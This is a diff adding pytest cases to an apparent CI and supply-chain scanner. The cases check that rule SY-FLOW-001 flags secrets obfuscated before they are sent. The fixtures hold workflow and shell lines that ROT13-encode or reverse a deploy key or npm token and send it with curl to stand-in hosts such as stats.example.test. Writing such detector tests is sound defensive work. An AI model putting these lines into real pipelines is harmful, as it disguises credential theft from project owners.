@@ -352,3 +352,46 @@ def test_ruby_resolving_fixed_mirror_hosts_does_not_block(tmp_path: Path) -> Non
         '%w[rubygems.org index.rubygems.org].each { |h| puts "#{h}: #{r.getaddresses(h).size}" }\n'
     )
     assert blocking(tmp_path, {"lib/rubygems_plugin.rb": rb}) == {}
+
+
+# ------------------------------------------------ a secret scrambled (reversed, rotated) before it is sent
+
+
+WORKFLOW = (
+    "on: push\n"
+    "jobs:\n"
+    "  ping:\n"
+    "    runs-on: ubuntu-latest\n"
+    "    steps:\n"
+    "      - env:\n"
+    "          TOK: ${{ secrets.DEPLOY_KEY }}\n"
+    "        run: |\n"
+    "{RUN}"
+)
+
+
+def test_workflow_secret_rotated_then_put_in_a_query_blocks(tmp_path: Path) -> None:
+    run = (
+        "          c=$(printf '%s' \"$TOK\" | tr 'A-Za-z' 'N-ZA-Mn-za-m')\n"
+        '          curl -s "https://stats.example.test/hit?c=$c"\n'
+    )
+    wf = WORKFLOW.replace("{RUN}", run)
+    assert "SY-FLOW-001" in blocking(tmp_path, {".github/workflows/ping.yml": wf})
+
+
+def test_shell_token_reversed_then_put_in_a_header_blocks(tmp_path: Path) -> None:
+    sh = (
+        "#!/bin/sh\n"
+        'tag=$(echo "$NPM_TOKEN" | rev)\n'
+        'curl -s -H "X-Build: $tag" https://telemetry.example.test/v1/build\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"ci/report.sh": sh})
+
+
+def test_workflow_secret_sent_as_is_and_a_name_reversed_does_not_block(tmp_path: Path) -> None:
+    run = (
+        "          short=$(hostname | rev | cut -d. -f1 | rev)\n"
+        '          curl -s -H "Authorization: Bearer $TOK" "https://deploy.example.test/v1/hook?h=$short"\n'
+    )
+    wf = WORKFLOW.replace("{RUN}", run)
+    assert blocking(tmp_path, {".github/workflows/ping.yml": wf}) == {}
